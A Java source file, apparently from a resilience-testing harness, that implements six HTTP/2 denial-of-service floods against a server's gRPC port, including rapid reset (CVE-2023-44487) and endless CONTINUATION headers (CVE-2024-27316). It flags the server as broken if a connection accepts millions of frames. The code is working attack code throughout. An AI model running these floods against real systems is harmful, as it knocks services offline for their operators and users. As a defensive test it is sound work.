package dev.entente.faults.siege.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.function.IntFunction;

/** HTTP/2 frames without end, on connections that are opened again as often as they are closed. */
final class Floods {
    private static final int CONNECTIONS = 4;
    private static final int CHUNK_BYTES = 64 << 10;
    /** Frames that no honest client sends on one connection within a raid. */
    private static final long TOO_MANY = 5_000_000;

    private static final byte[] CODE = {0, 0, 0, 8};

    private Floods() {}

    static List<Attack> all() {
        byte[] settings = RawHttp2.frame(RawHttp2.SETTINGS, 0, 0, new byte[0]);
        byte[] ping = RawHttp2.frame(RawHttp2.PING, 0, 0, new byte[8]);
        byte[] priority = RawHttp2.frame(RawHttp2.PRIORITY, 0, 1, new byte[] {0, 0, 0, 3, 7});
        byte[] window = RawHttp2.frame(RawHttp2.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1});
        return List.of(
                flood(1, "settings-flood", _ -> settings),
                flood(2, "reset-flood", Floods::callAndReset),
                flood(3, "ping-flood", _ -> ping),
                flood(4, "empty-frame-flood", _ -> priority),
                flood(5, "window-update-flood", _ -> window),
                flood(6, "continuation-flood", Floods::continued));
    }

    /** "Rapid reset", CVE-2023-44487. */
    private static byte[] callAndReset(int number) {
        int stream = 2 * number + 1;
        ByteArrayOutputStream both = new ByteArrayOutputStream();
        both.writeBytes(RawHttp2.call(stream));
        both.writeBytes(RawHttp2.frame(RawHttp2.RST_STREAM, 0, stream, CODE));
        return both.toByteArray();
    }

    /** Headers that never end, CVE-2024-27316. */
    private static byte[] continued(int number) {
        if (number == 0) {
            return RawHttp2.frame(RawHttp2.HEADERS, 0, 1, RawHttp2.headerBlock());
        }
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        RawHttp2.literal(block, "x-" + number, "a".repeat(100));
        return RawHttp2.frame(RawHttp2.CONTINUATION, 0, 1, block.toByteArray());
    }

    /**
     * @param network of its own, for a peer that has flooded is slowed, and the next flood would be, too
     * @param frames by their number on the connection
     */
    private static Attack flood(int network, String name, IntFunction<byte[]> frames) {
        return Attack.plain(
                name,
                (front, raid) -> Together.of(CONNECTIONS, raid, number -> {
                    while (raid.goesOn()) {
                        once(front, raid, (network << 8) + number, frames);
                    }
                }));
    }

    private static void once(Front front, Raid raid, int from, IntFunction<byte[]> frames) {
        try (RawHttp2 connection = RawHttp2.connect(from, front.grpcPort())) {
            raid.tried();
            int sent = 0;
            ByteArrayOutputStream chunk = new ByteArrayOutputStream();
            while (raid.goesOn()) {
                chunk.writeBytes(frames.apply(sent));
                sent++;
                if (chunk.size() >= CHUNK_BYTES) {
                    if (!connection.write(chunk.toByteArray())) {
                        return;
                    }
                    chunk.reset();
                }
                if (sent > TOO_MANY) {
                    raid.broke("one connection took " + TOO_MANY + " frames, and was not closed");
                    return;
                }
            }
        } catch (IOException refused) {
            // The port may refuse whoever floods it.
        }
    }
}
